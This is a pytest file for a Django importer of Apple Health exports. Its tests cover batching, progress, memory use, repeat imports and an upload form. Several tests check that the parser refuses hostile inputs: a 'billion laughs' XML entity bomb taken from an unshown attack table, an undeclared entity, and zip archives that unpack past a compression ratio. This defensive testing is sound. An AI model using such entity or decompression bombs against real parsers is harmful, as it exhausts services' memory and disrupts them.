def test_a_token_longer_than_the_cap_is_refused(tmp_path, token):
    path = tmp_path / "export.xml"
    path.write_bytes(export(record(STEPS, 1, "2026-11-20 07:00:00 +0100") + token))
    assert refusal(path) == TOKEN_TOO_LONG
    assert refusal(export_zip(tmp_path / "export.zip", path)) == TOKEN_TOO_LONG


def test_long_tokens_under_the_cap_are_read(tmp_path):
    note = "n" * (MAX_TOKEN_BYTES // 2)
    path = tmp_path / "export.xml"
    path.write_bytes(
        export(
            f' <Record type="x" note="{note}"/>\n <Me>{note}</Me>\n'
            + record(STEPS, 1, "2026-11-20 07:00:00 +0100")
        )
    )
    assert [item["value"] for item in items(path)] == ["1"]


def test_a_zip_that_unpacks_past_the_ratio_is_refused_as_it_unpacks(tmp_path, settings):
    """Past its first megabytes an entry may unpack to at most the allowed multiple
    of what was read; the central directory's sizes are not trusted for it."""
    path = export_zip(
        tmp_path / "export.zip", steps_export(tmp_path / "export.xml", 60_000, BODY_MASS)
    )
    with zipfile.ZipFile(path) as archive:
        entry = archive.getinfo("apple_health_export/export.xml")
    ratio = entry.file_size / entry.compress_size
    assert entry.file_size > RATIO_GRACE_BYTES
    settings.UPLOAD_MAX_COMPRESSION_RATIO = int(ratio) + 1
    assert sum(len(batch.items) for batch in batches(path, {"body_mass": 2})) == 60_000
    settings.UPLOAD_MAX_COMPRESSION_RATIO = int(ratio / 2)
    assert refusal(path, {"body_mass": 2}) == (
        f"The zip unpacks to more than {int(ratio / 2)} times its size, which no Apple "
        "Health export does; it is not one we can read."
    )


def test_an_export_larger_than_allowed_is_refused(tmp_path, settings):
    path = steps_export(tmp_path / "export.xml", 2000)
    settings.UPLOAD_MAX_UNPACKED_BYTES = 200 * 1024
    message = "The export.xml is larger than 200 KB, the most an import reads."
    assert refusal(path) == message
    assert refusal(export_zip(tmp_path / "export.zip", path)) == message


def test_a_zip_compressed_otherwise_than_apples_is_refused(tmp_path):
    path = export_zip(tmp_path / "export.zip", SAMPLE, compression=zipfile.ZIP_BZIP2)
    assert refusal(path) == (
        "The zip is compressed in a way that cannot be read safely; upload the export.zip "
        "as the Health app made it."
    )


def test_an_undeclared_entity_is_broken_xml(tmp_path):
    path = attack(tmp_path / "export.xml", "", "&lol9;")
    assert "undefined entity" in refusal(path)


# Batches, progress and memory -------------------------------------------------------------


@pytest.mark.parametrize("kind", ["xml", "zip"])
def test_batches_hold_batch_size_items_and_progress_counts_bytes(tmp_path, kind):
    """Read from a Django File, as the storage hands an upload over. (A zip's
    progress moves as its compressed bytes are read: see the next test.)"""
    path = steps_export(tmp_path / "export.xml", 4500, BODY_MASS)
    size = path.stat().st_size
    if kind == "zip":
        path = export_zip(tmp_path / "export.zip", path)
        with zipfile.ZipFile(path) as archive:
            size = archive.getinfo("apple_health_export/export.xml").compress_size
    with path.open("rb") as raw, File(raw, name="export.xml") as upload:
        read = list(AppleHealthExport().parse(source({"body_mass": 2}), upload))
    assert [len(batch.items) for batch in read] == [BATCH_SIZE, BATCH_SIZE, 500]
    done = [batch.progress[0] for batch in read]
    assert done == sorted(done) and 0 < done[0] <= size
    assert all(batch.progress[1] == size for batch in read)
    assert read[-1].progress == (size, size)
    if kind == "xml":
        assert done[0] < size


def test_progress_in_a_zip_counts_its_exports_compressed_bytes(tmp_path):
    path = export_zip(
        tmp_path / "export.zip", steps_export(tmp_path / "export.xml", 30_000, BODY_MASS)
    )
    with zipfile.ZipFile(path) as archive:
        size = archive.getinfo("apple_health_export/export.xml").compress_size
    read = batches(path, {"body_mass": 2})
    assert sum(len(batch.items) for batch in read) == 30_000
    done = [batch.progress[0] for batch in read]
    assert done == sorted(done) and 0 < done[0] < size
    assert [batch.progress[1] for batch in read] == [size] * len(read)
    assert read[-1].progress == (size, size)


def test_the_upload_stays_open_for_its_owner_even_when_reading_stops_early(tmp_path):
    for path in (
        steps_export(tmp_path / "export.xml", 4500, BODY_MASS),
        export_zip(tmp_path / "export.zip", tmp_path / "export.xml"),
    ):
        with path.open("rb") as upload:
            stream = AppleHealthExport().parse(source({"body_mass": 2}), upload)
            next(stream)
            stream.close()
            assert not upload.closed
            upload.seek(0)
            assert upload.read(2) in (b"<?", b"PK")


@pytest.mark.scale
@pytest.mark.parametrize(("kind", "count"), [("xml", 300_000), ("zip", 100_000)])
def test_memory_stays_flat_over_a_big_export(tmp_path, kind, count):
    path = steps_export(tmp_path / "export.xml", count)
    if kind == "zip":
        target = tmp_path / "export.zip"
        with (
            zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive,
            path.open("rb") as xml,
            archive.open("apple_health_export/export.xml", "w") as out,
        ):
            shutil.copyfileobj(xml, out, 1 << 20)
        path.unlink()
        path = target
    tracemalloc.start()
    try:
        started = time.perf_counter()
        read = 0
        with path.open("rb") as upload:
            for batch in AppleHealthExport().parse(source({"steps": 2}), upload):
                read += len(batch.items)
        seconds = time.perf_counter() - started
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    # A record every 10 minutes from 1 January 2020: summed into one item a day.
    assert read == -(-count * 10 // (24 * 60))
    assert peak < 20 * 1024 * 1024, f"peak {peak / 1e6:.1f} MB"
    print(
        f"\n{kind}: {count:,} records ({path.stat().st_size / 1e6:.0f} MB) in {seconds:.1f} s "
        f"under tracemalloc: {count / seconds:,.0f} records/s, peak {peak / 1e6:.1f} MB"
    )


def test_throughput(tmp_path):
    """Not a benchmark: a note of the speed (see the module docstring), and a floor far
    below it that only a pathological slowdown breaks."""
    path = steps_export(tmp_path / "export.xml", 100_000, BODY_MASS)
    started = time.perf_counter()
    with path.open("rb") as upload:
        parsed = AppleHealthExport().parse(source({"body_mass": 2}), upload)
        read = sum(len(batch.items) for batch in parsed)
    seconds = time.perf_counter() - started
    print(f"\n{read:,} records in {seconds:.2f} s: {read / seconds:,.0f} records/s")
    assert read / seconds > 10_000


# Through the sync orchestrator, against the database ----------------------------------------


@pytest.mark.django_db
def test_importing_an_export_twice_creates_nothing_the_second_time(tmp_path):
    weight = MetricFactory(unit="kg")
    steps = MetricFactory(owner=weight.owner, unit="steps")
    sleep = MetricFactory(owner=weight.owner, unit="hours")
    data_source = DataSource.objects.create(
        owner=weight.owner,
        provider="apple_health",
        name="iPhone",
        settings={"metrics": {"body_mass": weight.id, "steps": steps.id, "sleep": sleep.id}},
        created=timezone.now(),
    )
    path = export_zip(tmp_path / "export.zip", SAMPLE)

    def run():
        run = SyncRun.objects.create(source=data_source, created=timezone.now(), upload="x.zip")
        result = sync(run.id, open_upload=lambda name: path.open("rb"))
        assert result.ok, result.error
        return SyncRun.objects.get(id=run.id)

    first = run()
    assert (first.status, first.created_count, first.rejected_count) == (RunStatus.SUCCEEDED, 6, 0)
    second = run()
    assert (second.created_count, second.updated_count, second.unchanged_count) == (0, 0, 6)
    assert Measurement.objects.filter(metric=weight).count() == 3
    stored = Measurement.objects.get(metric=weight, original_unit="lb")
    assert (stored.value, stored.original_value) == (Decimal("81.283753"), Decimal("179.2"))
    assert stored.measured_at == dt.datetime(2026, 11, 21, 12, 15, tzinfo=dt.UTC)
    assert sorted(Measurement.objects.filter(metric=sleep).values_list("value", flat=True)) == [
        Decimal("4.008333"),
        Decimal("7.5"),
    ]


@pytest.mark.django_db
def test_an_entity_bomb_fails_the_import_and_leaves_nothing(tmp_path):
    metric = MetricFactory(unit="steps")
    data_source = DataSource.objects.create(
        owner=metric.owner,
        provider="apple_health",
        name="iPhone",
        settings={"metrics": {"steps": metric.id}},
        created=timezone.now(),
    )
    path = attack(tmp_path / "export.xml", *ATTACKS["billion laughs"])
    run = SyncRun.objects.create(source=data_source, created=timezone.now(), upload="x.xml")
    result = sync(run.id, open_upload=lambda name: path.open("rb"))
    assert not result.ok
    assert result.error.message == ENTITIES
    assert SyncRun.objects.get(id=run.id).status == RunStatus.COMPENSATED
    assert not Measurement.objects.exists()


def test_reading_from_memory_works_too():
    upload = io.BytesIO(SAMPLE.read_bytes())
    assert [item for batch in AppleHealthExport().parse(source(), upload) for item in batch.items]


@pytest.mark.django_db
def test_a_newer_export_updates_its_days_and_nights_and_adds_nothing_twice(tmp_path):
    steps = MetricFactory(unit="steps")
    sleep = MetricFactory(owner=steps.owner, unit="hours")
    data_source = DataSource.objects.create(
        owner=steps.owner,
        provider="apple_health",
        name="Apple Health",
        settings={"metrics": {"steps": steps.id, "sleep": sleep.id}},
        created=timezone.now(),
    )

    def run(path):
        run = SyncRun.objects.create(source=data_source, created=timezone.now(), upload="x.xml")
        result = sync(run.id, open_upload=lambda name: path.open("rb"))
        assert result.ok, result.error
        run = SyncRun.objects.get(id=run.id)
        return run.created_count, run.updated_count, run.unchanged_count, run.rejected_count

    assert run(TWO_DEVICES) == (8, 0, 0, 0)
    assert run(TWO_DEVICES) == (0, 0, 8, 0)
    newer = tmp_path / "export.xml"
    more = record(STEPS, 800, "2026-10-27 21:00:00 +0100", source_name=PHONE) + record(
        SLEEP,
        "HKCategoryValueSleepAnalysisAsleepCore",
        "2026-10-27 23:00:00 +0100",
        end="2026-10-28 06:00:00 +0100",
        source_name=WATCH,
    )
    newer.write_text(
        TWO_DEVICES.read_text(encoding="utf-8").replace("</HealthData>", more + "</HealthData>"),
        encoding="utf-8",
    )
    assert run(newer) == (1, 1, 7, 0)
    berlin = ZoneInfo("Europe/Berlin")
    days = {
        m.measured_at.astimezone(berlin).date().isoformat(): m.value
        for m in Measurement.objects.filter(metric=steps)
    }
    assert days == {
        "2026-10-24": Decimal("6636"),
        "2026-10-25": Decimal("7545"),
        "2026-10-26": Decimal("6505"),
        "2026-10-27": Decimal("6050"),
    }
    nights = {
        m.measured_at.astimezone(berlin).date().isoformat(): m.value
        for m in Measurement.objects.filter(metric=sleep)
    }
    assert nights == {
        "2026-10-24": Decimal("7"),
        "2026-10-25": Decimal("8.416667"),
        "2026-10-26": Decimal("7.5"),
        "2026-10-27": Decimal("7.5"),
        "2026-10-28": Decimal("7"),
    }
    assert all(
        m.external_id.endswith(m.measured_at.astimezone(berlin).date().isoformat())
        for m in Measurement.objects.all()
    )


# The upload form ---------------------------------------------------------------------------


def upload_form(signed_in, metric, **fields):
    upload = SimpleUploadedFile("export.xml", TWO_DEVICES.read_bytes(), content_type="text/xml")
    data = {"apple-file": upload, "apple-steps": metric.id}
    data.update({f"apple-{name}": value for name, value in fields.items()})
    return signed_in.post("/sources/apple-health/", data)


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("fields", "settings_"),
    [
        ({}, {"devices": "one", "sources": []}),
        ({"devices": "one"}, {"devices": "one", "sources": []}),
        ({"devices": "all"}, {"devices": "all", "sources": []}),
        (
            {"devices": "named", "device": " Anna's Watch "},
            {"devices": "one", "sources": ["Anna's Watch"]},
        ),
    ],
)
def test_the_form_says_which_devices_to_read(signed_in, user, fields, settings_):
    metric = MetricFactory(owner=user, unit="steps")
    response = upload_form(signed_in, metric, **fields)
    assert response.status_code == 302, response.content.decode()[:3000]
    stored = DataSource.objects.get().settings
    assert stored["metrics"] == {"steps": metric.id}
    assert {key: stored.get(key, []) for key in settings_} == settings_


@pytest.mark.django_db
def test_the_form_asks_for_the_name_of_a_named_device(signed_in, user):
    metric = MetricFactory(owner=user, unit="steps")
    response = upload_form(signed_in, metric, devices="named", device="")
    assert response.status_code == 200
    assert "Name the device to read, or choose another option." in response.content.decode()
    assert not DataSource.objects.exists()


@pytest.mark.django_db
def test_the_page_says_what_an_export_gives(signed_in):
    page = signed_in.get("/sources/").content.decode()
    assert "One device a day (recommended)" in page
    assert "All devices added up" in page
    assert "sleep as one value a night, the hours asleep, dated on the morning you woke" in page
